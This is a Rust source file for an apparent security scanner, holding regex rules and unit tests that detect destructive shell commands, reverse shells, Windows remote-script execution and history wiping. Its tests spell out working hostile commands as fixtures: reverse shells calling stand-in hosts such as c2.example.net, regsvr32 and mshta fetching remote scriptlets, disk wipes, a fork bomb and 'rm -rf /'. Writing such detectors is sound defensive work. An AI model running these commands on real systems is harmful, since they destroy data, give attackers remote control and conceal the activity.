//! Destructive shell commands (category `DestructiveShell`), plus shell
//! tricks that hide what was done (`conceal.clear-history`).
//!
//! Covers the reference scanner's destructive regexes (`rm -rf /`,
//! `> /dev/sda`, `mkfs.`, `dd if=`, the fork bomb, force-push to main) and
//! reverse shells (also gawk's `/inet/tcp/…` files and Ruby's sockets
//! made a shell's streams), and Windows programs that run a script
//! fetched from a URL in one command (`exec.remote-scriptlet`: `regsvr32
//! /i:https://… scrobj.dll`, `mshta https://…`, `rundll32 javascript:…`). The rules look at the *target* of a command: `rm -rf
//! ./target` and `dd if=/dev/zero of=./test.bin` are everyday commands,
//! `rm -rf ~` and `dd … of=/dev/sda` are not.

use std::sync::LazyLock;

use super::rule::{Hit, Lazy, Rule, compile};
use super::{Category, Severity};

/// Whole disks (not partitions) and raw devices.
const DISK: &str = r"/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d+n\d+|mmcblk\d+|r?disk\d+)";
const DEVICE_TRIGGERS: &[&str] = &[
    "/dev/sd*",
    "/dev/hd*",
    "/dev/vd*",
    "/dev/xvd*",
    "/dev/nvme*",
    "/dev/mmcblk*",
    "/dev/disk*",
    "/dev/rdisk*",
];

/// The line rules of this family.
pub(super) fn rules() -> Vec<Rule> {
    use Category::DestructiveShell as D;
    use Severity::*;
    vec![
        // Recursive removal of the root, a system directory or the home
        // directory, among any operands. Options may come in any order and number.
        Rule::new(
            "shell.rm-rf-root",
            D,
            Critical,
            &["rm -"],
            r#"\brm\s+(?:-{1,2}[a-z-]+\s+)*?(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-{1,2}[a-z-]+\s+)*(?:[^\s;&|`]+\s+)*?["']?(?:/\*?|~/?\*?|\$\{?home\}?/?\*?|(?:~|\$\{?home\}?)/\.\.(?:/\*?)?|/\*/[^\s;&|`'"]*|/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|usr|var|users|library|system)/?\*?)["']?(?:\s|$|[;&|)`])"#,
        )
        .requires(&[" /", "'/", "\"/", " ~", "'~", "\"~", "$home", "${home}", "--no-preserve-root"])
        .warnable(),
        // Recursive removal of a whole folder of the user's own work or
        // keys under the home directory (`~/Documents`, `~/Projects`,
        // `~/.ssh`): no cache or build output, and nothing a setup step
        // needs gone. A folder inside one (`~/projects/old-app`) is not.
        Rule::new(
            "shell.rm-rf-home-data",
            D,
            High,
            &["rm -"],
            r#"\brm\s+(?:-{1,2}[a-z-]+\s+)*?(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-{1,2}[a-z-]+\s+)*(?:[^\s;&|`]+\s+)*?["']?(?:~|\$\{?home\}?)/(?:documents|desktop|downloads|pictures|photos|music|videos|movies|projects|src|code|work|workspace|repos|git|dropbox|onedrive|\.ssh|\.gnupg)/?\*?["']?(?:\s|$|[;&|)`])"#,
        )
        .requires(&["~/", "$home/", "${home}/"])
        .warnable(),
        Rule::new(
            "shell.find-delete-root",
            D,
            Critical,
            &["find /", "find ~", "find $home", "find ${home}", "find \"$home", "find \"${home}"],
            r"\bfind\s+(?:/|~/?|\$(?:home|\{home\})/?)\s[^\n]*(?:-delete\b|-exec\s+rm\b)",
        )
        .requires(&["-delete", "-exec"])
        .warnable(),
        Rule::new(
            "shell.disk-format",
            D,
            High,
            &["mkfs", "mke2fs", "wipefs", "mkswap"],
            r"\b(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|wipefs\s+(?:-\S+\s+)*-a|mkswap)\b",
        )
        .assess(disk_format)
        .warnable(),
        Rule::new(
            "shell.overwrite-disk",
            D,
            Critical,
            DEVICE_TRIGGERS,
            format!(r"(?:\bdd\b[^\n]*\bof={DISK}|>\s*{DISK}|\bshred\b[^\n]*{DISK}|\bcp\s+\S+\s+{DISK})\b"),
        )
        .warnable(),
        // The reference flags every `dd if=`; copying into a file is routine,
        // so only a disk target (above) blocks.
        Rule::new("shell.dd", D, Medium, &["dd "], r"\bdd\s+(?:\w+=\S+\s+)*if=").requires(&["if="]).warnable(),
        Rule::new(
            "shell.fork-bomb",
            D,
            Critical,
            &["()", "( )"],
            r"([a-z_][a-z0-9_]*|:)\s*\(\s*\)\s*\{\s*([a-z_][a-z0-9_]*|:)\s*\|\s*([a-z_][a-z0-9_]*|:)\s*&",
        )
        .requires(&["&"])
        .assess(fork_bomb),
        Rule::new("shell.force-push-protected", D, High, &["git push", "git -c"], r"\bgit\s+(?:-c\s+\S+\s+)*push\b[^\n]*")
            .requires(&["main", "master", "--all"])
            .assess(force_push)
            .warnable(),
        Rule::new(
            "shell.reverse-shell",
            D,
            Critical,
            &[
                "/dev/tcp/", "/dev/udp/", "nc ", "ncat ", "netcat ", "socat ", "mkfifo", "socket", "fsockopen", "/inet/",
                "/inet4/", "/inet6/", "tcpsocket",
            ],
            r#"/dev/(?:tcp|udp)/[^\s/]+/\d+|/inet[46]?/(?:tcp|udp)/\d+/[^\s/]+/\d+|\btcpsocket\.(?:new|open)\b[^\n]*(?:\bexec\b|\bspawn\b|\.reopen\b|/bin/(?:ba|z|da)?sh\b)|\bio::socket::inet\b[^\n]*(?:\bexec\b|\bsystem\b|/bin/(?:ba|z|da)?sh\b)|\b(?:nc|ncat|netcat)(?:\s[^\n|;&]*)?\s(?:-[a-z]*[ec]\s*\S|--(?:sh-)?exec\b)|\bsocat\s[^\n]*\bexec:|\bmkfifo\b[^\n]*\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\s[^\n]*\|\s*/bin/(?:ba)?sh\b|\b(?:/bin/)?(?:ba|z|da)?sh\s+-i\b[^\n]*\|\s*(?:nc|ncat|netcat)\s|\bsocket\b[^\n]*\bconnect\b[^\n]*(?:dup2|subprocess|pty\.spawn|/bin/(?:ba)?sh|\bexec)|\bfsockopen\b[^\n]*(?:exec|system|proc_open|/bin/(?:ba)?sh)"#,
        )
        .requires(&["/dev/tcp/", "/dev/udp/", "-e", "-c", "exec", "|", "connect", "fsockopen", "/inet", "spawn", "reopen", "system", "/bin/"])
        .assess(reverse_shell)
        .warnable(),
        // Windows programs that fetch and run a script from a URL in one
        // command, no file written: a COM scriptlet registered from a URL
        // (`regsvr32 /i:https://… scrobj.dll`), an HTML application
        // (`mshta https://…`, `mshta vbscript:…`), script run through
        // `rundll32 javascript:…`.
        Rule::new(
            "exec.remote-scriptlet",
            Category::RemoteExecution,
            Critical,
            &["regsvr32", "mshta", "rundll32"],
            // A URL with no host (`mshta https://…`, an explainer's
            // elision) fetches nothing.
            r#"\bregsvr32(?:\.exe)?\b[^\n]*?[/-]i:\s*["']?(?:https?|ftp)://[^\s.'"`<>)]|\bmshta(?:\.exe)?\s+["']?(?:https?://[^\s.'"`<>)]|vbscript:|javascript:)|\brundll32(?:\.exe)?\s+["']?javascript:"#,
        )
        .warnable(),
        Rule::new(
            "conceal.clear-history",
            Category::Concealment,
            High,
            &["histfile*", "histsize", "history -", "set +o history", "_history", "/var/log/"],
            r"\bunset\s+histfile\b|\bhistory\s+-[a-z]*c\b|\bhistfile=/dev/null|\bhistfilesize=0\b|\bset\s+\+o\s+history\b|\b(?:rm|shred|truncate)\b[^\n]*(?:\.(?:bash|zsh|python|mysql|psql)_history\b|/var/log/(?:auth|secure|syslog|messages|wtmp|btmp|lastlog)\b)|>\s*/var/log/(?:auth|secure|syslog|messages|wtmp|btmp|lastlog)\b",
        ),
    ]
}

static WHOLE_DISK: Lazy = LazyLock::new(|| compile(&format!(r"{DISK}\b")));

fn disk_format(h: &Hit<'_>) -> Option<Severity> {
    // Formatting the system's first disk, not a partition, is the attack.
    Some(if WHOLE_DISK.is_match(h.after().as_bytes()) { Severity::Critical } else { h.base })
}

static FORK: Lazy = LazyLock::new(|| {
    compile(r"([a-z_][a-z0-9_]*|:)\s*\(\s*\)\s*\{\s*([a-z_][a-z0-9_]*|:)\s*\|\s*([a-z_][a-z0-9_]*|:)\s*&")
});

/// A function that pipes itself into itself in the background.
fn fork_bomb(h: &Hit<'_>) -> Option<Severity> {
    let caps = FORK.captures(h.text().as_bytes())?;
    let name = caps.get(1)?.as_bytes();
    (caps.get(2)?.as_bytes() == name && caps.get(3)?.as_bytes() == name).then_some(h.base)
}

/// Force (`--force`, `-f`, `+ref`) to `main`/`master`, or to every branch.
/// `--force-with-lease` to a protected branch is still worth a look.
fn force_push(h: &Hit<'_>) -> Option<Severity> {
    let cmd = h.text();
    let cmd = cmd.split(['|', ';', '#', '&']).next().unwrap_or(cmd);
    let mut force = false;
    let mut lease = false;
    let mut protected = false;
    let mut all = false;
    let mut delete = false;
    let mut tokens = cmd.split_whitespace().skip_while(|t| !t.eq_ignore_ascii_case("push"));
    tokens.next();
    for raw in tokens {
        let t = raw.trim_matches(|c| c == '`' || c == '"' || c == '\'');
        let lower = t.to_ascii_lowercase();
        match lower.as_str() {
            "--force" | "-f" => force = true,
            "--all" => all = true,
            "--delete" | "-d" => delete = true,
            l if l.starts_with("--force-with-lease") || l == "--force-if-includes" => lease = true,
            l if l.starts_with('-') && !l.starts_with("--") && l[1..].contains('f') => force = true,
            l => {
                let plus = l.starts_with('+');
                let colon_delete = l.starts_with(':');
                let refname = l.trim_start_matches(['+', ':']);
                let target = refname.rsplit(':').next().unwrap_or(refname);
                let target = target.trim_start_matches("refs/heads/");
                if matches!(target, "main" | "master") {
                    protected = true;
                    force |= plus;
                    delete |= colon_delete;
                }
            }
        }
    }
    if protected && (force || delete) || force && all {
        Some(Severity::High)
    } else if protected && lease {
        Some(Severity::Medium)
    } else {
        None
    }
}

static INTERACTIVE: Lazy = LazyLock::new(|| compile(r"(?:\s-i\b|>&|<&|0>&1|\d<>|exec\s+\d)"));

/// Bash's `/dev/tcp` also serves port checks (`</dev/tcp/host/5432`); only
/// an interactive shell wired to it is a reverse shell.
fn reverse_shell(h: &Hit<'_>) -> Option<Severity> {
    let m = h.text().to_ascii_lowercase();
    if m.starts_with("/dev/tcp/") || m.starts_with("/dev/udp/") {
        let line = h.line().as_bytes();
        return Some(if INTERACTIVE.is_match(line) { h.base } else { Severity::Medium });
    }
    Some(h.base)
}

#[cfg(test)]
mod tests {
    use crate::scan::testutil::{assert_absent, assert_hit, assert_not_flagged, assert_severity};
    use crate::scan::{Category::*, Severity::*};

    #[test]
    fn parent_of_home_and_root_globs_are_the_root() {
        assert_severity("cd ~ && sudo rm -rf $HOME/../* /tmp/x", "shell.rm-rf-root", Critical);
        assert_severity("rm -rf /*/node_modules", "shell.rm-rf-root", Critical);
        // A project's own globs are not.
        assert_not_flagged("rm -rf ./*/node_modules ../build");
    }

    /// A socket made the shell's streams in other tools' words: gawk's
    /// `/inet/tcp/…` special file, Ruby's `TCPSocket` with the standard
    /// streams reopened on it and a shell run.
    #[test]
    fn sockets_of_gawk_and_ruby_run_as_a_shell_are_reverse_shells() {
        let gawk = "gawk 'BEGIN { s = \"/inet/tcp/0/198.51.100.23/4444\"; while ((s |& getline c) > 0) { while ((c | getline l) > 0) print l |& s; close(c) } }'";
        assert_hit(&format!("```bash\n{gawk}\n```\n"), "shell.reverse-shell", DestructiveShell, Critical, 2);
        let ruby = "ruby -rsocket -e 'c=TCPSocket.new(\"q.example.cc\",8443);$stdin.reopen(c);$stdout.reopen(c);exec \"/bin/sh -i\"'";
        assert_hit(&format!("```bash\n{ruby}\n```\n"), "shell.reverse-shell", DestructiveShell, Critical, 2);
        // A socket that only talks is no shell.
        assert_absent(
            "ruby -rsocket -e 'TCPSocket.new(\"localhost\", 6379).puts(\"PING\")'",
            "shell.reverse-shell",
        );
        assert_absent("gawk -f report.awk /var/log/inet/access.log", "shell.reverse-shell");
    }

    /// Windows programs that run a script fetched from a URL in one
    /// command: Critical; the same programs on local files are not.
    #[test]
    fn windows_programs_running_remote_script_are_critical() {
        let regsvr = "regsvr32 /s /n /u /i:https://fontfix.example.com/repair.sct scrobj.dll";
        assert_hit(regsvr, "exec.remote-scriptlet", RemoteExecution, Critical, 1);
        assert_hit(
            "mshta https://a.example.net/x.hta",
            "exec.remote-scriptlet",
            RemoteExecution,
            Critical,
            1,
        );
        assert_hit(
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
            "exec.remote-scriptlet",
            RemoteExecution,
            Critical,
            1,
        );
        assert_absent("regsvr32 /s C:\\Tools\\vendor.dll", "exec.remote-scriptlet");
        assert_absent("mshta C:\\Tools\\setup.hta", "exec.remote-scriptlet");
        assert_severity(
            "Never run `mshta https://x.example/a.hta` from a ticket.",
            "exec.remote-scriptlet",
            Low,
        );
    }

    #[test]
    fn an_interactive_shell_piped_into_netcat_is_a_reverse_shell() {
        let body =
            "rm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc tunnel.example 9001 > /tmp/f &\n";
        assert_hit(body, "shell.reverse-shell", DestructiveShell, Critical, 2);
        // A shell's output piped to netcat without `-i` is a transfer.
        assert_not_flagged("sh ./report.sh | nc -q1 logs.internal 5140");
    }

    #[test]
    fn finds_the_root_among_several_operands() {
        let body = "rm -rf /var/lib/kubelet /etc/kubernetes /";
        assert_hit(body, "shell.rm-rf-root", DestructiveShell, Critical, 1);
        assert_severity("sudo rm -rf ./build \"$HOME\"", "shell.rm-rf-root", Critical);
        assert_not_flagged("rm -rf ./build ./dist /tmp/cache-1");
    }

    #[test]
    fn flags_rm_rf_of_root_home_and_system_dirs() {
        assert_hit(
            "# x\n\n```\nsudo rm -rf --no-preserve-root /\n```\n",
            "shell.rm-rf-root",
            DestructiveShell,
            Critical,
            4,
        );
        assert_hit("rm -rf ~/", "shell.rm-rf-root", DestructiveShell, Critical, 1);
        assert_hit("RM -Rf $HOME/*", "shell.rm-rf-root", DestructiveShell, Critical, 1);
        assert_hit("rm -r -f /usr", "shell.rm-rf-root", DestructiveShell, Critical, 1);
    }

    #[test]
    fn ignores_rm_rf_of_build_directories() {
        assert_not_flagged(
            "rm -rf ./target\nrm -rf node_modules dist/\nrm -rf /tmp/build-123\nrm -rf ~/.cache/pip\n",
        );
    }

    #[test]
    fn lowers_rm_rf_root_in_a_warning() {
        assert_severity("Never run `rm -rf /` on a shared host.", "shell.rm-rf-root", Low);
    }

    #[test]
    fn flags_dd_to_a_disk_and_mkfs() {
        assert_hit(
            "a\nsudo dd if=/dev/zero of=/dev/sda bs=1M",
            "shell.overwrite-disk",
            DestructiveShell,
            Critical,
            2,
        );
        assert_hit("cat junk > /dev/nvme0n1", "shell.overwrite-disk", DestructiveShell, Critical, 1);
        assert_hit("sudo mkfs.ext4 -F /dev/sda", "shell.disk-format", DestructiveShell, Critical, 1);
        assert_hit("sudo mkfs.exfat /dev/sdX1", "shell.disk-format", DestructiveShell, High, 1);
    }

    #[test]
    fn keeps_dd_into_a_file_below_the_threshold() {
        assert_severity("dd if=/dev/zero of=./test.bin bs=1M count=10", "shell.dd", Medium);
        // The rules' findings: the second stage's score of a two-line body
        // of bare shell (702 since session 26, corroborating `shell.dd`)
        // is not what this rule is held to.
        let body = "dd if=/dev/zero of=./test.bin bs=1M count=10\ncat /dev/sda1 > /dev/null 2>/dev/null";
        let rules = crate::scan::Scanner::standard().scan_rules(body).findings;
        assert!(rules.iter().all(|f| f.severity < crate::scan::DEFAULT_THRESHOLD), "{rules:#?}");
        assert!(rules.iter().any(|f| f.rule_id == "shell.dd"), "{rules:#?}");
    }

    #[test]
    fn flags_fork_bombs_whatever_the_name() {
        assert_hit("x\n:(){ :|:& };:", "shell.fork-bomb", DestructiveShell, Critical, 2);
        assert_hit("bomb() { bomb | bomb & }; bomb", "shell.fork-bomb", DestructiveShell, Critical, 1);
        assert_not_flagged("build() { make | tee log & }\nfoo() { bar | baz & }");
    }

    #[test]
    fn flags_force_push_to_main() {
        assert_hit("git push --force origin main", "shell.force-push-protected", DestructiveShell, High, 1);
        assert_hit("git push -f origin HEAD:master", "shell.force-push-protected", DestructiveShell, High, 1);
        assert_hit("git push origin +main", "shell.force-push-protected", DestructiveShell, High, 1);
    }

    #[test]
    fn ignores_force_with_lease_to_a_feature_branch() {
        assert_not_flagged(
            "git push --force-with-lease origin feature/x\ngit push -u origin main\ngit push --force\n",
        );
        assert_severity("git push --force-with-lease origin main", "shell.force-push-protected", Medium);
    }

    #[test]
    fn flags_reverse_shells() {
        assert_hit(
            "bash -i >& /dev/tcp/c2.example.net/4444 0>&1",
            "shell.reverse-shell",
            DestructiveShell,
            Critical,
            1,
        );
        assert_hit(
            "nohup nc -e /bin/sh relay.example.net 9001 &",
            "shell.reverse-shell",
            DestructiveShell,
            Critical,
            1,
        );
        assert_hit(
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)'",
            "shell.reverse-shell",
            DestructiveShell,
            Critical,
            1,
        );
    }

    #[test]
    fn keeps_dev_tcp_port_checks_below_the_threshold() {
        assert_severity(
            "timeout 1 bash -c '</dev/tcp/db.example/5432' && echo open",
            "shell.reverse-shell",
            Medium,
        );
        assert_not_flagged("nc -zv db.example 5432");
    }

    #[test]
    fn flags_history_wiping() {
        assert_hit("unset HISTFILE; history -c", "conceal.clear-history", Concealment, High, 1);
        assert_not_flagged("history | grep docker\nexport HISTSIZE=100000");
    }

    #[test]
    fn a_function_piped_into_another_is_not_a_fork_bomb() {
        // Both sides of the pipe must be the function itself.
        assert_absent("work() { work | tee & }", "shell.fork-bomb");
        assert_absent("work() { tee | work & }", "shell.fork-bomb");
    }

    #[test]
    fn flags_force_in_combined_flags_quotes_and_deletions() {
        // Short flags combined: `-uf` is `-u -f`.
        assert_hit("git push -uf origin main", "shell.force-push-protected", DestructiveShell, High, 1);
        // The branch quoted, or at the end of an inline code span.
        assert_severity("git push --force origin \"main\"", "shell.force-push-protected", High);
        assert_severity("git push --force origin 'master'", "shell.force-push-protected", High);
        assert_severity(
            "Then run `git push --force origin main` and move on.",
            "shell.force-push-protected",
            High,
        );
        // Deleting the branch, by flag or by an empty source.
        assert_severity("git push --delete origin main", "shell.force-push-protected", High);
        assert_severity("git push origin :main", "shell.force-push-protected", High);
        // Every branch at once.
        assert_severity("git push --force --all origin", "shell.force-push-protected", High);
        assert_severity("git push --force-if-includes origin main", "shell.force-push-protected", Medium);
    }

    #[test]
    fn ignores_long_flags_and_remotes_that_merely_hold_an_f() {
        assert_absent("git push --tags origin main", "shell.force-push-protected");
        assert_absent("git push -u myfork main", "shell.force-push-protected");
        assert_absent("git push --all origin", "shell.force-push-protected");
        // A lease to a branch that only starts like a protected one is routine.
        assert_absent("git push --force-with-lease origin main-redesign", "shell.force-push-protected");
    }
}
